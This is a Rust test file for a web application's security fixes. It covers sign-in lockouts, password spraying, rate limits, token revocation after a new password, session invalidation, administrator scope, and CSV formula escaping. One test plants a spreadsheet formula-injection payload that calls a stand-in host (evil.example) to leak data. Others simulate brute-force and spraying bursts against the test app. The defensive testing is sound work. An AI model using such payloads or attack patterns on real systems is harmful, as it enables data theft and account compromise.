//! Findings of an attack on a running server (sign-in races and lockouts, province-wide settings, formula cells in
//! CSV, tokens after a new password, sessions ended elsewhere): each case here failed before its fix.
use axum::http::StatusCode;
use chibo::web::limits::SignInLimits;
use futures_util::future::join_all;
use sqlx::PgPool;

use crate::common::{PASSWORD, Page, TestApp};

/// A sign-in answer whose password was checked: a session, or "wrong password". Refusals that checked nothing
/// ("locked", "too many attempts") are not.
fn checked(page: &Page) -> bool {
    page.status == StatusCode::SEE_OTHER || page.text().contains("Tên đăng nhập hoặc mật khẩu không đúng.")
}

fn refused_unchecked(page: &Page) -> bool {
    page.status.is_client_error() && !checked(page)
}

#[sqlx::test]
async fn concurrent_sign_ins_cannot_outrun_the_lockout(pool: PgPool) {
    let app = TestApp::new(pool).await;
    // 59 wrong passwords and the right one, all at once, from one address
    let pages = join_all((0..60).map(|i| {
        let app = &app;
        async move {
            let password = if i == 41 { PASSWORD.to_string() } else { format!("sai-{i}") };
            app.anonymous().post_at("203.0.113.5", "/login", &[("username", "sec_a"), ("password", &password)]).await
        }
    }))
    .await;
    let n_checked = pages.iter().filter(|p| checked(p)).count();
    assert!(n_checked <= 5, "{n_checked} of 60 concurrent attempts had their password checked");
    assert!(pages.iter().all(|p| checked(p) || p.text().contains("tạm khóa")), "every other one says locked");
    // 100 wrong ones for the administrator from another address: five are checked
    let pages = join_all((0..100).map(|i| {
        let app = &app;
        async move {
            let password = format!("sai-{i}");
            app.anonymous().post_at("203.0.113.6", "/login", &[("username", "admin"), ("password", &password)]).await
        }
    }))
    .await;
    let n_checked = pages.iter().filter(|p| checked(p)).count();
    assert!(n_checked <= 5, "{n_checked} of 100 concurrent wrong passwords for admin were checked");
    assert!(pages.iter().all(|p| checked(p) || refused_unchecked(p)));
}

#[sqlx::test]
async fn a_stranger_cannot_lock_the_owner_out_and_one_address_cannot_try_many_names(pool: PgPool) {
    let app = TestApp::new(pool).await;
    let mut stranger = app.anonymous();
    for _ in 0..5 {
        let page = stranger.post_at("203.0.113.7", "/login", &[("username", "sec_a"), ("password", "sai")]).await;
        assert!(checked(&page), "{}", page.text());
    }
    let sixth = stranger.post_at("203.0.113.7", "/login", &[("username", "sec_a"), ("password", PASSWORD)]).await;
    assert_eq!(sixth.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(sixth.text().contains("tạm khóa"), "{}", sixth.text());
    // the owner, at their own address, is not locked out by the stranger
    let owner =
        app.anonymous().post_at("198.51.100.2", "/login", &[("username", "sec_a"), ("password", PASSWORD)]).await;
    assert_eq!(owner.status, StatusCode::SEE_OTHER, "{}", owner.text());

    // one address trying many user names is stopped after 30 wrong passwords, whatever the names
    let mut sprayer = app.anonymous();
    let mut wrong = 0;
    let mut stopped = 0;
    for i in 0..40 {
        let name = format!("nguoi-dung-{i}");
        let page = sprayer.post_at("203.0.113.9", "/login", &[("username", name.as_str()), ("password", "sai")]).await;
        if checked(&page) {
            wrong += 1;
        } else {
            assert!(page.text().contains("Địa chỉ mạng của bạn đã nhập sai mật khẩu quá nhiều lần"), "{}", page.text());
            stopped += 1;
        }
    }
    assert_eq!((wrong, stopped), (30, 10));
    let right = sprayer.post_at("203.0.113.9", "/login", &[("username", "sec_b"), ("password", PASSWORD)]).await;
    assert_eq!(right.status, StatusCode::UNPROCESSABLE_ENTITY, "that address is paused, even with a right password");
    let elsewhere =
        app.anonymous().post_at("198.51.100.3", "/login", &[("username", "sec_b"), ("password", PASSWORD)]).await;
    assert_eq!(elsewhere.status, StatusCode::SEE_OTHER);

    // a user name no account can have: refused as wrong, kept cut to the field's length, never a 500
    let long = "a".repeat(3000);
    let page =
        app.anonymous().post_at("198.51.100.4", "/login", &[("username", long.as_str()), ("password", "x")]).await;
    assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(page.text().contains("Tên đăng nhập hoặc mật khẩu không đúng."));
    assert_eq!(page.input("username").map(|u| u.chars().count()), Some(64));
}

#[sqlx::test]
async fn the_instance_limits_how_fast_passwords_are_tried(pool: PgPool) {
    let first = TestApp::new(pool.clone()).await;
    // three attempts at once per address, in all; then one a second
    let app = TestApp::instance(
        pool.clone(),
        chibo::AppState::with_sign_in_limits(pool.clone(), false, SignInLimits::new(3, 100)),
    );
    let mut client = app.anonymous();
    for _ in 0..3 {
        let page = client.post_at("203.0.113.10", "/login", &[("username", "sec_a"), ("password", "sai")]).await;
        assert_eq!(page.status, StatusCode::UNPROCESSABLE_ENTITY);
    }
    let fourth = client.post_at("203.0.113.10", "/login", &[("username", "sec_b"), ("password", PASSWORD)]).await;
    assert_eq!(fourth.status, StatusCode::TOO_MANY_REQUESTS);
    assert!(fourth.text().contains("Có quá nhiều lượt đăng nhập cùng lúc"), "{}", fourth.text());
    let other = client.post_at("203.0.113.11", "/login", &[("username", "sec_b"), ("password", PASSWORD)]).await;
    assert_eq!(other.status, StatusCode::SEE_OTHER, "another address has its own allowance");

    let app =
        TestApp::instance(pool.clone(), chibo::AppState::with_sign_in_limits(pool, false, SignInLimits::new(100, 2)));
    let mut client = app.anonymous();
    for (i, want) in
        [StatusCode::SEE_OTHER, StatusCode::SEE_OTHER, StatusCode::TOO_MANY_REQUESTS].into_iter().enumerate()
    {
        let page = client
            .post_at(&format!("198.51.100.{}", 20 + i), "/login", &[("username", "sec_b"), ("password", PASSWORD)])
            .await;
        assert_eq!(page.status, want, "attempt {i} on an instance taking two at once");
    }
    drop(first);
}

#[sqlx::test]
async fn wrong_current_passwords_on_the_password_page_are_counted(pool: PgPool) {
    let app = TestApp::new(pool).await;
    let mut sec = app.login("sec_a").await;
    let csrf = sec.get("/account/password").await.input("csrf").unwrap();
    let hash: String = sqlx::query_scalar("select password_hash from users where username = 'sec_a'")
        .fetch_one(&app.pool)
        .await
        .unwrap();
    for i in 0..5 {
        let guess = format!("doan-{i}");
        let page = sec
            .post_at(
                "203.0.113.12",
                "/account/password",
                &[
                    ("csrf", csrf.as_str()),
                    ("current", guess.as_str()),
                    ("new", "mat-khau-moi-1"),
                    ("confirm", "mat-khau-moi-1"),
                ],
            )
            .await;
        assert!(page.text().contains("Mật khẩu hiện tại không đúng."), "{}", page.text());
    }
    let sixth = sec
        .post_at(
            "203.0.113.12",
            "/account/password",
            &[("csrf", csrf.as_str()), ("current", PASSWORD), ("new", "mat-khau-moi-1"), ("confirm", "mat-khau-moi-1")],
        )
        .await;
    assert_eq!(sixth.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(sixth.text().contains("tạm khóa"), "{}", sixth.text());
    let after: String = sqlx::query_scalar("select password_hash from users where username = 'sec_a'")
        .fetch_one(&app.pool)
        .await
        .unwrap();
    assert_eq!(hash, after, "the password did not change");
}

/// An API token of `user`'s, made through the tokens page; its secret.
async fn new_token(client: &mut crate::common::Client<'_>) -> String {
    let csrf = client.get("/account/tokens").await.input("csrf").unwrap();
    let page = client.post("/account/tokens", &[("csrf", csrf.as_str()), ("name", "Bảng tính")]).await;
    assert!(page.text().contains("mọi khóa API của tài khoản bị thu hồi"), "the page says what a new password does");
    page.body.split("<code id=\"new-token\">").nth(1).unwrap().split('<').next().unwrap().to_string()
}

#[sqlx::test]
async fn a_new_password_revokes_the_api_tokens(pool: PgPool) {
    let app = TestApp::new(pool).await;
    let mut sec = app.login("sec_a").await;
    let secret = new_token(&mut sec).await;
    let mut api = app.anonymous();
    assert_eq!(api.get_with_token("/api/v1/me", Some(&secret)).await.status, StatusCode::OK);
    let csrf = sec.get("/account/password").await.input("csrf").unwrap();
    let page = sec
        .post(
            "/account/password",
            &[("csrf", csrf.as_str()), ("current", PASSWORD), ("new", "mat-khau-moi-1"), ("confirm", "mat-khau-moi-1")],
        )
        .await;
    assert!(page.text().contains("mọi khóa API của tài khoản đã bị thu hồi"), "{}", page.text());
    assert_eq!(api.get_with_token("/api/v1/me", Some(&secret)).await.status, StatusCode::UNAUTHORIZED);

    // and a reset link, used by someone who forgot the password
    let secret = new_token(&mut sec).await;
    assert_eq!(api.get_with_token("/api/v1/me", Some(&secret)).await.status, StatusCode::OK);
    let mut admin = app.login("admin").await;
    let csrf = admin.get("/admin/users").await.input("csrf").unwrap();
    let id: i64 =
        sqlx::query_scalar("select id from users where username = 'sec_a'").fetch_one(&app.pool).await.unwrap();
    let page = admin.post(&format!("/admin/users/{id}/reset"), &[("csrf", csrf.as_str())]).await;
    let link = page.body.split("<code id=\"reset-link\">").nth(1).unwrap().split('<').next().unwrap().to_string();
    let done = app.anonymous().post(&link, &[("new", "mat-khau-lan-ba"), ("confirm", "mat-khau-lan-ba")]).await;
    assert_eq!(done.location.as_deref(), Some("/login?reset=1"));
    assert_eq!(api.get_with_token("/api/v1/me", Some(&secret)).await.status, StatusCode::UNAUTHORIZED);
}

#[sqlx::test]
async fn a_session_ended_elsewhere_is_not_served_from_memory(pool: PgPool) {
    let app = TestApp::with_cache(pool.clone()).await;
    let mut sec = app.login("sec_a").await;
    let mut other = app.login("sec_b").await;
    assert_eq!(sec.get("/cells/A").await.status, StatusCode::OK);
    assert_eq!(other.get("/cells/B").await.status, StatusCode::OK);
    let token = |c: &crate::common::Client<'_>| {
        c.cookie().unwrap().split("; ").find_map(|p| p.strip_prefix("chibo_session=")).unwrap().to_string()
    };
    assert!(app.state.cache().session(&token(&sec)).is_some(), "the session is kept in memory");
    assert!(app.state.cache().session(&token(&other)).is_some());

    // sec_b's session reaches its absolute end (nothing announces that), then another instance (here: the command
    // line's function) disables sec_a: neither may be served from memory a moment longer
    let b: i64 =
        sqlx::query_scalar("select id from users where username = 'sec_b'").fetch_one(&app.pool).await.unwrap();
    sqlx::query("update sessions set created_at = now() - interval '13 hours' where user_id = $1")
        .bind(b)
        .execute(&app.pool)
        .await
        .unwrap();
    assert_eq!(other.get("/cells/B").await.location.as_deref(), Some("/login"), "expired: at once");
    let user = chibo::db::users::by_username(&app.pool, "sec_a").await.unwrap().unwrap();
    chibo::db::credentials::disable(&app.pool, &chibo::db::audit::Actor::cli(), &user).await.unwrap();
    assert_eq!(sec.get("/cells/A").await.location.as_deref(), Some("/login"), "disabled: at once");
}

#[sqlx::test]
async fn only_an_administrator_of_the_whole_tree_changes_province_wide_settings(pool: PgPool) {
    let app = TestApp::new(pool).await;
    let xl: i64 = sqlx::query_scalar("select id from units where code = 'XL'").fetch_one(&app.pool).await.unwrap();
    let new = chibo::db::users::NewUser {
        username: "admin_xl",
        display_name: "Quản trị xã Xuân Lập",
        password_hash: crate::common::hash(PASSWORD).await,
        role: chibo::domain::Role::Admin,
        unit_id: xl,
    };
    chibo::db::users::create(&app.pool, &chibo::db::audit::Actor::cli(), new).await.unwrap();
    let programmes = || async {
        let n: i64 = sqlx::query_scalar("select count(*) from programmes").fetch_one(&app.pool).await.unwrap();
        let t: i64 = sqlx::query_scalar("select count(*) from programme_targets").fetch_one(&app.pool).await.unwrap();
        (n, t)
    };
    let before = programmes().await;
    let mut local = app.login("admin_xl").await;
    let page = local.get("/admin/programmes").await;
    assert!(page.text().contains("Bạn quản trị một phần của cây đơn vị"), "{}", page.text());
    let csrf = page.input("csrf").unwrap();
    let created = local
        .post(
            "/admin/programmes",
            &[
                ("csrf", csrf.as_str()),
                ("code", "XL-2026"),
                ("name", "Riêng xã"),
                ("from", "2026-01"),
                ("to", "2026-12"),
            ],
        )
        .await;
    assert_eq!(created.status, StatusCode::FORBIDDEN);
    let programme: String = sqlx::query_scalar("select code from programmes order by id limit 1")
        .fetch_one(&app.pool)
        .await
        .unwrap_or_else(|_| "DA16".into());
    let wide = local
        .post(
            "/admin/programmes/targets",
            &[
                ("csrf", csrf.as_str()),
                ("programme", programme.as_str()),
                ("metric", "attendance_rate"),
                ("unit", ""),
                ("target", "10"),
            ],
        )
        .await;
    assert_eq!(wide.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(wide.text().contains("Chỉ quản trị viên toàn tỉnh mới đặt chỉ tiêu chung"), "{}", wide.text());
    assert_eq!(programmes().await, before, "nothing written");
    if before.0 > 0 {
        // an override for a cell of their own subtree is theirs to set
        let own = local
            .post(
                "/admin/programmes/targets",
                &[
                    ("csrf", csrf.as_str()),
                    ("programme", programme.as_str()),
                    ("metric", "attendance_rate"),
                    ("unit", "A"),
                    ("target", "95"),
                ],
            )
            .await;
        assert_eq!(own.status, StatusCode::OK, "{}", own.text());
        assert_eq!(programmes().await.1, before.1 + 1);
    }
    // the administrator of the whole tree may do both
    let mut top = app.login("admin").await;
    let csrf = top.get("/admin/programmes").await.input("csrf").unwrap();
    let created = top
        .post(
            "/admin/programmes",
            &[
                ("csrf", csrf.as_str()),
                ("code", "DA-2026"),
                ("name", "Đề án mới"),
                ("from", "2026-01"),
                ("to", "2030-12"),
            ],
        )
        .await;
    assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.text());
    let wide = top
        .post(
            "/admin/programmes/targets",
            &[
                ("csrf", csrf.as_str()),
                ("programme", "DA-2026"),
                ("metric", "attendance_rate"),
                ("unit", ""),
                ("target", "90"),
            ],
        )
        .await;
    assert_eq!(wide.status, StatusCode::OK, "{}", wide.text());
}

#[sqlx::test]
async fn a_formula_in_a_name_stays_text_in_the_csv_export_and_raw_in_the_bundle(pool: PgPool) {
    let app = TestApp::new(pool).await;
    let evil = r#"=HYPERLINK("http://evil.example/?leak","Bấm vào")"#;
    sqlx::query("update units set name = $1 where code = 'A'").bind(evil).execute(&app.pool).await.unwrap();
    sqlx::query("update units set name = '+Nà Mỏ' where code = 'B'").execute(&app.pool).await.unwrap();
    let mut clerk = app.login("clerk").await;
    let csv = clerk.get("/dashboard/XL/export.csv?from=2026-01&to=2026-10").await;
    assert_eq!(csv.status, StatusCode::OK);
    assert!(csv.body.contains(r#""'=HYPERLINK(""http://evil.example/?leak"",""Bấm vào"")""#), "{}", csv.body);
    assert!(csv.body.contains(",'+Nà Mỏ,"), "{}", csv.body);
    for line in csv.body.lines() {
        for field in line.split(',') {
            let field = field.trim_start_matches('"');
            assert!(!field.starts_with(['=', '+', '@']), "a formula cell: {line}");
        }
    }
    // the bundle is chibo's own data: the name goes out and comes back as it is
    let dir = std::env::temp_dir().join(format!("chibo-formula-{}", std::process::id()));
    chibo::import::export::export(&app.pool, &dir).await.unwrap();
    let units = std::fs::read_to_string(dir.join("units.csv")).unwrap();
    std::fs::remove_dir_all(&dir).unwrap();
    assert!(units.contains(r#""=HYPERLINK(""http://evil.example/?leak"",""Bấm vào"")""#), "{units}");
    assert!(units.contains(",+Nà Mỏ,"), "{units}");
}
